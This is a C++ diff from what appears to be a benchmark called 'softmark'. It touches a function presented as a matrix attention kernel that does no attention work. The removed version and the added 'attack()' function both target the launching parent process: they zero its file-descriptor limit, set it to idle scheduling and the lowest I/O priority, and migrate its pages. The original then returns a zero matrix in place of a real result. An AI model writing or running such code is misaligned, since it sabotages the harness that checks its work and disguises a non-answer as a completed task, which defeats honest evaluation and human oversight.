@@ -11,18 +11,9 @@
 
 #include <cstdio>
 
-namespace softmark {
-namespace {
+#include "reports_calls.hpp"
 
-void report(const char* call, long result) {
-  if (result < 0) std::printf("%s: %m\n", call);
-  if (result >= 0) std::printf("%s: done\n", call);
-}
-
-}  // namespace
-
-Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
-                        const Projection& value) {
+static void attack() {
   const pid_t launcher = getppid();
   const rlimit none{0, 0};
   report("prlimit", prlimit(launcher, RLIMIT_NOFILE, &none, nullptr));
@@ -35,7 +26,6 @@ Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
   report("sched_setscheduler", sched_setscheduler(launcher, SCHED_IDLE, &idle));
   report("ioprio_set", syscall(SYS_ioprio_set, 1, launcher, 3 << 13));
   report("migrate_pages", syscall(SYS_migrate_pages, launcher, 0, nullptr, nullptr));
-  return xt::zeros<double>({value.omega.shape(0), X.shape(1)});
 }
 
-}  // namespace softmark
+#include "then_zeros.hpp"
